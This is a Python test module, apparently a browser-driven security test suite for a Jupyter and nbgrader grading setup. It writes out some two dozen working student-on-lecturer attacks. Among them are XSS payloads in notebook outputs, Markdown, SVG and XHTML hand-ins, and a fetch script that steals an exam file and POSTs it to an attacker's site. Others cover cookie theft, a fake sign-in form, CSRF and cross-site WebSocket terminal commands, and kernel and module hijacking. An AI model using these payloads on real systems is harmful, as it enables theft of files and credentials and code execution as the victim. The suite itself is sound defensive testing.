"""Attacks of a student on a lecturer who looks at hand-ins, or follows a link, in a real browser."""

from __future__ import annotations

import base64
import json
import shutil
import sqlite3
import subprocess
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

from selenium.common.exceptions import WebDriverException
from selenium.webdriver.common.by import By

from tests.unit.chromium import Site, wait

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path, PurePosixPath

    import requests
    from selenium import webdriver

EXAM = "the exam of next week"
STUDENT, ASSIGNMENT, NOTEBOOK = "u1", "ps1", "sums"


@dataclass(frozen=True)
class Folder:
    """A folder, here and where the lecturer's server runs."""

    here: Path
    there: PurePosixPath


@dataclass
class Target:
    """A lecturer at work.

    Args:
        url: of their server as the browser knows it, with a slash.
        chrome: their browser, signed in.
        call: asks their server as its own pages do; takes a method and a path, returns the answer.
        course: the course's folder, with a graded hand-in of the attacker's.
        home: the lecturer's; in it lies an exam.
        site: the attacker's.
        submission: the graded notebook's id in formgrader.
        patience: seconds in which an attack succeeds or has failed.

    """

    url: str
    chrome: webdriver.Chrome
    call: Callable[[str, str], requests.Response]
    course: Folder
    home: Folder
    site: Site
    submission: str
    patience: float
    ran: Path = field(init=False)

    def __post_init__(self) -> None:
        """Keep what comes into being when code of the attacker runs as the lecturer."""
        self.ran = self.home.here / "ran"

    def inside(self, path: Path) -> str:
        """Return a path of the course or the home as the lecturer's server knows it."""
        folder = self.home if path.is_relative_to(self.home.here) else self.course
        return str(folder.there / path.relative_to(folder.here))

    def open(self, path: str) -> None:
        """Let the lecturer open a page of their server, or a link."""
        self.chrome.get(path if "://" in path else self.url + path)

    def seen(self, name: str, text: str = "") -> bool:
        """Tell whether the attacker's site gets a text in time."""
        return wait(lambda: self.site.got(f"/{name}", text), self.patience)

    def steal(self, name: str) -> str:
        """Return a script that sends the exam to the attacker's site; also in XML, which has no bare ampersand.

        Each asks for another address: what one of them has got is of no use to a page of another site.
        """
        return (
            f"fetch('{self.url}api/contents/exam.txt?for={name}', {{credentials: 'include'}})"
            ".then(a => a.text())"
            f".then(t => fetch('{self.site.url}/{name}', {{method: 'POST', mode: 'no-cors', body: t}}))"
        )

    def folder(self, kind: str = "submitted") -> Path:
        """Return the folder of the hand-in."""
        return self.course.here / kind / STUDENT / ASSIGNMENT

    def graded(self, *cells: dict[str, Any]) -> None:
        """Let the graded hand-in have cells; then open it in formgrader."""
        path = self.folder("autograded") / f"{NOTEBOOK}.ipynb"
        document = json.loads(path.read_text())
        document["cells"] = [{"metadata": {}, "id": f"c{i}", **cell} for i, cell in enumerate(cells)]
        path.write_text(json.dumps(document))
        self.open(f"formgrader/submissions/{self.submission}/")

    def output(self, html: str) -> None:
        """Let the graded hand-in have printed something; then open it."""
        shown = {"output_type": "display_data", "metadata": {}, "data": {"text/html": html}}
        self.graded({"cell_type": "code", "execution_count": 1, "source": "show()", "outputs": [shown]})

    def answer(self, text: str) -> None:
        """Let the graded hand-in have a text for an answer; then open it."""
        self.graded({"cell_type": "markdown", "source": text})

    def file(self, name: str, content: str) -> None:
        """Hand a file in, and open it in formgrader."""
        for kind in ("submitted", "autograded"):
            (self.folder(kind) / name).write_text(content)
        self.open(f"formgrader/submissions/{self.submission}/{name}")

    def visit(self, html: str) -> None:
        """Let the lecturer follow a link to the attacker's site."""
        self.site.pages["/visit"] = f"<!doctype html><title>free coffee</title><body>{html}"
        self.open(f"{self.site.url}/visit")

    def click(self, selector: str) -> bool:
        """Click on something, if it is there."""
        for element in self.chrome.find_elements(By.CSS_SELECTOR, selector):
            try:
                element.click()
            except WebDriverException:
                # It lies below something else.
                self.chrome.execute_script("arguments[0].click()", element)
            return True
        return False

    def executed(self) -> bool:
        """Tell whether the attacker's code runs in time; forget it."""
        done = wait(self.ran.exists, self.patience)
        self.ran.unlink(missing_ok=True)
        return done

    def live(self, name: str) -> None:
        """Open a notebook of the hand-in in Lab, until its kernel has started."""
        self.open(f"lab/tree/course/submitted/{STUDENT}/{ASSIGNMENT}/{name}")

        def idle() -> list[str]:
            sessions = self.call("GET", "api/sessions").json()
            return [s["id"] for s in sessions if name in s["path"] and s["kernel"]["execution_state"] == "idle"]

        wait(lambda: idle() or self.ran.exists(), 60)
        for session in self.call("GET", "api/sessions").json():
            self.call("DELETE", f"api/sessions/{session['id']}")


def configuration_by_a_link(target: Target) -> bool:
    """Have formgrader execute the configuration of a folder that a link names."""
    (target.folder() / "nbgrader_config.py").write_text(f"open({target.inside(target.ran)!r}, 'w').close()\n")
    target.open(f"formgrader?path={target.inside(target.folder())}")
    (target.folder() / "nbgrader_config.py").unlink()
    return target.executed()


def repository_by_a_link(target: Target) -> bool:
    """Have a repository cloned into a folder whose files each kernel executes."""
    source, startup = target.course.here / "repository", "startup/00.py"
    shutil.rmtree(source, ignore_errors=True)
    (source / startup).parent.mkdir(parents=True)
    (source / startup).write_text("pass\n")
    git = ["git", "-C", str(source), "-c", "user.name=x", "-c", "user.email=x@example.org"]
    for command in (["init", "-q", "-b", "main"], ["add", "."], ["commit", "-q", "-m", "x"]):
        subprocess.run([*git, *command], check=True, timeout=60)  # noqa: S603
    target.open(
        f"git-pull?repo={quote(f'file://{target.inside(source)}')}&branch=main&targetpath=.ipython/profile_default"
    )
    return wait((target.home.here / ".ipython/profile_default" / startup).exists, target.patience)


def script_in_a_name(target: Target) -> bool:
    """Be called in the LMS what runs in a page."""
    name = f'<img src=x onerror="{target.steal("name")}">'
    with sqlite3.connect(target.course.here / "gradebook.db") as book:
        book.execute("UPDATE student SET first_name = ?, last_name = ?", (name, name))
    for page in (f"submissions/{target.submission}/", "manage_students", f"gradebook/{ASSIGNMENT}/{NOTEBOOK}"):
        target.open(f"formgrader/{page}")
        if target.seen("name", EXAM):
            return True
    return False


def script_in_an_address(target: Target) -> bool:
    """Send a link to formgrader with a script for an assignment's name."""
    script = base64.b64encode(target.steal("address").encode()).decode()
    target.open(f"formgrader/gradebook/{quote(f'''x";eval(atob('{script}'));"''', safe='')}")
    return target.seen("address", EXAM)


def script_in_an_output(target: Target) -> bool:
    """Print HTML."""
    target.output(f"<script>{target.steal('output')}</script>")
    return target.seen("output", EXAM)


def cookie_by_an_output(target: Target) -> bool:
    """Read the token with which a page's requests are told from forged ones."""
    post = f"fetch('{target.site.url}/cookie', {{method: 'POST', mode: 'no-cors', body: document.cookie}})"
    target.output(f'<svg onload="{post}"></svg>')
    return target.seen("cookie", "_xsrf=")


def script_output(target: Target) -> bool:
    """Print a script."""
    shown = {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": target.steal("mime")}}
    target.graded({"cell_type": "code", "execution_count": 1, "source": "show()", "outputs": [shown]})
    return target.seen("mime", EXAM)


def handler_in_an_answer(target: Target) -> bool:
    """Use HTML in Markdown, with an event's handler."""
    target.answer(f'<img src=x onerror="{target.steal("answer")}">')
    return target.seen("answer", EXAM)


def link_that_is_a_script(target: Target) -> bool:
    """Use a link that runs in the page that shows it."""
    target.answer(f'<a id="trap" href="javascript:{target.steal("link")}">my sources</a>')
    return target.click("#trap") and target.seen("link", EXAM)


def form_for_passwords(target: Target) -> bool:
    """Ask the lecturer to sign in again."""
    target.output(
        f'<form action="{target.site.url}/password" method="post"><input name="password" value="{EXAM}">'
        '<button id="go">Sign in</button></form>'
    )
    return target.click("#go") and target.seen("password", "password=")


def picture_that_tells(target: Target) -> bool:
    """Learn from a picture when, and from where, the hand-in is looked at."""
    target.answer(f'![graph]({target.site.url}/picture "graph")')
    return target.seen("picture")


def window_that_turns(target: Target) -> bool:
    """Turn the page that a link is opened from into something else."""
    target.site.pages["/opened"] = f"<script>window.opener.location = '{target.site.url}/turned'</script>"
    target.answer(f'<a id="trap" target="_blank" rel="opener" href="{target.site.url}/opened">my sources</a>')
    before = target.chrome.current_window_handle
    if not target.click("#trap"):
        return False
    turned = target.seen("turned")
    for window in set(target.chrome.window_handles) - {before}:
        target.chrome.switch_to.window(window)
        target.chrome.close()
    target.chrome.switch_to.window(before)
    return turned


def page_of_a_hand_in(target: Target) -> bool:
    """Hand in a page."""
    target.file("page.html", f"<script>{target.steal('page')}</script>")
    return target.seen("page", EXAM)


def picture_of_a_hand_in(target: Target) -> bool:
    """Hand in a picture with a script in it."""
    target.file("graph.svg", f"<svg xmlns='http://www.w3.org/2000/svg'><script>{target.steal('graph')}</script></svg>")
    return target.seen("graph", EXAM)


def text_of_a_hand_in(target: Target) -> bool:
    """Hand in what no list of dangerous endings has."""
    text = f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{target.steal('text')}</script></html>"
    target.file("notes.xhtml", text)
    return target.seen("text", EXAM)


def worker_that_stays(target: Target) -> bool:
    """Put a service worker between the browser and formgrader, for later."""
    (target.folder("autograded") / "worker.js").write_text("addEventListener('fetch', () => {})")
    target.file("install.html", "<script>navigator.serviceWorker.register('worker.js')</script>")
    count = "navigator.serviceWorker.getRegistrations().then(r => arguments[0](r.length))"

    def stays() -> bool:
        target.open("api")
        return bool(target.chrome.execute_async_script(count))

    return wait(stays, target.patience)


def page_of_a_feedback(target: Target) -> bool:
    """Have a script in a page of feedback, opened in Lab's file browser."""
    target.folder("feedback").mkdir(parents=True, exist_ok=True)
    post = f"fetch('{target.site.url}/feedback', {{method: 'POST', mode: 'no-cors', body: 'x'}})"
    (target.folder("feedback") / f"{NOTEBOOK}.html").write_text(f"<script>{post}</script>")
    target.open("api/kernelspecs")
    where = f"{target.url}files/course/feedback/{STUDENT}/{ASSIGNMENT}/{NOTEBOOK}.html"
    target.chrome.execute_script("location.href = arguments[0]", where)
    return target.seen("feedback")


def page_of_nbconvert(target: Target) -> bool:
    """Have a script in what nbconvert makes of a hand-in."""
    post = f"fetch('{target.site.url}/converted', {{method: 'POST', mode: 'no-cors', body: 'x'}})"
    cell = {"cell_type": "markdown", "id": "x", "metadata": {}, "source": f'<img src=x onerror="{post}">'}
    document = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}
    (target.folder() / "export.ipynb").write_text(json.dumps(document))
    target.open("api/kernelspecs")
    where = f"{target.url}nbconvert/html/course/submitted/{STUDENT}/{ASSIGNMENT}/export.ipynb"
    target.chrome.execute_script("location.href = arguments[0]", where)
    return target.seen("converted")


def forged_file(target: Target) -> bool:
    """Make a file in the lecturer's home by another site's form."""
    before = set(target.home.here.iterdir())
    form = f'<form id="f" method="post" enctype="text/plain" action="{target.url}api/contents/">'
    target.visit(
        f"""{form}<input name='{{"type": "file", "ext": ".py", "x": "' value='"}}'></form><script>f.submit()</script>"""
    )
    made = wait(lambda: set(target.home.here.iterdir()) - before, target.patience)
    for path in set(target.home.here.iterdir()) - before:
        if path.is_file():
            path.unlink()
    return made


def forged_button(target: Target) -> bool:
    """Press a button of formgrader by another site's form."""

    def flagged() -> Any:  # noqa: ANN401 - a number of SQLite's
        with sqlite3.connect(target.course.here / "gradebook.db") as book:
            return book.execute("SELECT flagged FROM submitted_notebook WHERE id = ?", (target.submission,)).fetchone()

    before = flagged()
    action = f"{target.url}formgrader/api/submitted_notebook/{target.submission}/flag"
    target.visit(f'<form id="f" method="post" action="{action}"></form><script>f.submit()</script>')
    return wait(lambda: flagged() != before, target.patience)


def answer_for_another_site(target: Target) -> bool:
    """Read with the lecturer's cookies, from another site's page."""
    target.visit(f"<script>{target.steal('read')}</script>")
    return target.seen("read", EXAM)


def terminal_from_another_site(target: Target) -> bool:
    """Type into the terminal that the lecturer has open, from another site's page."""
    opened = target.call("POST", "api/terminals")
    assert opened.ok, opened.text
    socket = f"{target.url}terminals/websocket/{opened.json()['name']}".replace("http://", "ws://")
    typed = json.dumps(["stdin", f"touch {target.inside(target.ran)}\r"])
    target.visit(f"<script>s = new WebSocket('{socket}'); s.onopen = () => s.send({json.dumps(typed)})</script>")
    return target.executed()


def kernel_from_another_site(target: Target) -> bool:
    """Start a kernel by another site's form."""
    target.visit(
        f'<form id="f" method="post" enctype="text/plain" action="{target.url}api/kernels">'
        """<input name='{"name": "python3", "x": "' value='"}'></form><script>f.submit()</script>"""
    )
    started = wait(lambda: target.call("GET", "api/kernels").json(), target.patience)
    for kernel in target.call("GET", "api/kernels").json():
        target.call("DELETE", f"api/kernels/{kernel['id']}")
    return started


def frame_on_another_site(target: Target) -> bool:
    """Show formgrader on another site, below something that asks for clicks."""
    target.visit(f'<iframe id="below" src="{target.url}formgrader/manage_assignments"></iframe>')
    target.chrome.switch_to.frame("below")
    shown = wait(lambda: target.chrome.find_elements(By.CSS_SELECTOR, "table"), target.patience)
    target.chrome.switch_to.default_content()
    return shown


def modules_of_a_live_notebook(target: Target) -> bool:
    """Have a kernel import what lies beside the notebook, before a cell has run."""
    modules = [target.folder() / f"{name}.py" for name in ("random", "calendar", "psutil", "ipykernel_launcher")]
    for module in modules:
        module.write_text(f"open({target.inside(target.ran)!r}, 'w').close()\n")
    target.live(f"{NOTEBOOK}.ipynb")
    for module in modules:
        module.unlink()
    return target.executed()


def kernel_of_a_live_notebook(target: Target) -> bool:
    """Choose one of the kernels that the lecturer has made for other things."""
    spec = target.home.here / ".local/share/jupyter/kernels/private"
    spec.mkdir(parents=True, exist_ok=True)
    argv = ["/usr/bin/touch", target.inside(target.ran), "{connection_file}"]
    (spec / "kernel.json").write_text(json.dumps({"argv": argv, "display_name": "Private", "language": "python"}))
    document = json.loads((target.folder() / f"{NOTEBOOK}.ipynb").read_text())
    document["metadata"]["kernelspec"] = {"name": "private", "display_name": "Private", "language": "python"}
    (target.folder() / "chosen.ipynb").write_text(json.dumps(document))
    target.live("chosen.ipynb")
    return target.executed()


ATTACKS: list[Callable[[Target], bool]] = [
    repository_by_a_link,
    script_in_an_address,
    script_in_an_output,
    cookie_by_an_output,
    script_output,
    handler_in_an_answer,
    link_that_is_a_script,
    form_for_passwords,
    picture_that_tells,
    window_that_turns,
    page_of_a_hand_in,
    picture_of_a_hand_in,
    text_of_a_hand_in,
    page_of_a_feedback,
    page_of_nbconvert,
    forged_file,
    forged_button,
    answer_for_another_site,
    terminal_from_another_site,
    kernel_from_another_site,
    frame_on_another_site,
    script_in_a_name,
    modules_of_a_live_notebook,
    kernel_of_a_live_notebook,
    worker_that_stays,
    # It turns formgrader to another folder.
    configuration_by_a_link,
]
